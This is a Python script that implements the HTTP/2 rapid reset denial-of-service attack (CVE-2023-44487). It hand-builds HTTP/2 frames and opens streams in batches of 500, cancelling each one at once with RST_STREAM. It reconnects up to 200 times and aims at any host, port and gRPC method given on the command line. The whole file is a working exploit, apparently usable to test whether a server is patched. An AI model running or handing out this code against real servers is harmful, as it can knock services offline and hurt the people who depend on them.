"""A client that opens streams only to reset them: HTTP/2 rapid reset (CVE-2023-44487)."""

import asyncio
import struct
import sys
from contextlib import suppress
from dataclasses import dataclass

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING = 0x0, 0x1, 0x3, 0x4, 0x6
_END_HEADERS, _END_STREAM, _ACK = 0x4, 0x1, 0x1
_EMPTY_MESSAGE = bytes(5)
_CANCEL = struct.pack(">I", 0x8)
_TOGETHER = 500
"""Streams per write."""


@dataclass(frozen=True)
class RapidReset:
    """Opens streams to one method and resets each at once."""

    host: str
    port: int
    method: str

    async def attack(self, resets: int) -> int:
        """Reset so many streams and return how many the server has worked off.

        A server may hang up; then there is another connection, at most 200 times.
        """
        done = 0
        for _ in range(200):
            done += await self._over_one_connection(resets - done)
            if done >= resets:
                break
        return done

    async def _over_one_connection(self, resets: int) -> int:
        reader, writer = await asyncio.open_connection(self.host, self.port)
        worked_off = asyncio.create_task(_until_pinged(reader))
        done = 0
        with suppress(ConnectionError):
            writer.write(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
            while done < resets and not worked_off.done():
                number = min(_TOGETHER, resets - done)
                writer.write(b"".join(self._stream(2 * (done + n) + 1) for n in range(number)))
                await writer.drain()
                done += number
            # The answer to a ping comes after all that was sent before it.
            writer.write(_frame(_PING, 0, 0, bytes(8)))
        await worked_off
        writer.close()
        with suppress(ConnectionError):
            await writer.wait_closed()
        return done

    def _stream(self, stream: int) -> bytes:
        return (
            _frame(_HEADERS, _END_HEADERS, stream, self._headers())
            + _frame(_DATA, _END_STREAM, stream, _EMPTY_MESSAGE)
            + _frame(_RST_STREAM, 0, stream, _CANCEL)
        )

    def _headers(self) -> bytes:
        """Return a request's headers; RFC 7541: indexed fields, or literals without indexing."""
        rest = {"content-type": "application/grpc", "te": "trailers"}
        return b"".join(
            (
                b"\x83\x86",  # :method POST, :scheme http
                b"\x04" + _text(self.method),
                b"\x01" + _text(self.host),
                *(b"\x00" + _text(name) + _text(value) for name, value in rest.items()),
            )
        )


async def _until_pinged(reader: asyncio.StreamReader) -> None:
    """Read frames until the one that answers the ping, or until the server hangs up."""
    with suppress(ConnectionError, asyncio.IncompleteReadError):
        while True:
            head = await reader.readexactly(9)
            await reader.readexactly(int.from_bytes(head[:3]))
            if (head[3], head[4]) == (_PING, _ACK):
                return


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return a frame (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _text(text: str) -> bytes:
    """Return a string literal of at most 126 octets (RFC 7541, section 5.2)."""
    return bytes([len(text)]) + text.encode()


if __name__ == "__main__":
    where, method, resets = sys.argv[1:]
    name, _, port_ = where.rpartition(":")
    worked_off = asyncio.run(RapidReset(name, int(port_), method).attack(int(resets)))
    print(worked_off)  # noqa: T201 - the result
